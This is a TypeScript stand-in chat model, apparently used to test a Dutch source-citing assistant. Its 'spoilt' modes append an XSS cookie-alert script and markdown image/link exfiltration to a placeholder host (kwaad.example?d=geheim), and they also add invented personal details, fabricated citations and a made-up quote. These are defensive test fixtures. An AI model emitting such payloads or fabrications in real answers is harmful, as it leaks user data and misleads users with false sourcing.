import type { Mode } from './modes.ts'

export type ChatPrompt = { sources: { nummer: number; tekst: string; waar: string }[]; question: string }

const wordsOf = (text: string) =>
  new Set((text.toLowerCase().match(/\p{L}{4,}/gu) ?? []).map((word) => word.slice(0, 6)))

/** The source that shares most words with the question, as an honest model picks it. */
const honestChat = ({ sources, question }: ChatPrompt): string => {
  const questionWords = wordsOf(question)
  const scored = sources.map((source) => ({
    source,
    shared: [...wordsOf(`${source.tekst} ${source.waar}`)].filter((word) => questionWords.has(word)).length,
  }))
  const [best] = scored.toSorted((a, b) => b.shared - a.shared)
  if (!best || best.shared === 0) return 'NIET GEVONDEN: hierover staat niets in de bronnen.'
  return `Dit staat in de bronnen. ${best.source.tekst} [${best.source.nummer}]`
}

const spoilt: Partial<Record<Mode, (honest: string) => string>> = {
  scripts: (honest) =>
    `${honest}\n<script>alert(document.cookie)</script> ![x](https://kwaad.example/p.png?d=geheim) [klik](https://kwaad.example/?d=geheim) https://kwaad.example/los`,
  inventive: (honest) => `${honest} Verder verdient zij € 9.999 en belt u Piet Verzonnen via piet@verzonnen.nl.`,
  injected: (honest) => `${honest} De salariswens is 9999.`,
  'false-citation': (honest) =>
    `${honest} Olifanten slapen staand [1]. Dat blijkt [999]. Er staat ‘wij betalen altijd het dubbele van de markt’.`,
  empty: () => '',
  'without-source': () => 'Ik denk dat het ongeveer drieduizend euro is.',
  nonsense: () => 'De zon scheen op het strand.',
}

/** What the stand-in says to a question about sources. */
export const chatIn = (mode: Mode | undefined, prompt: ChatPrompt): string => {
  const honest = honestChat(prompt)
  return (mode && spoilt[mode]?.(honest)) ?? honest
}
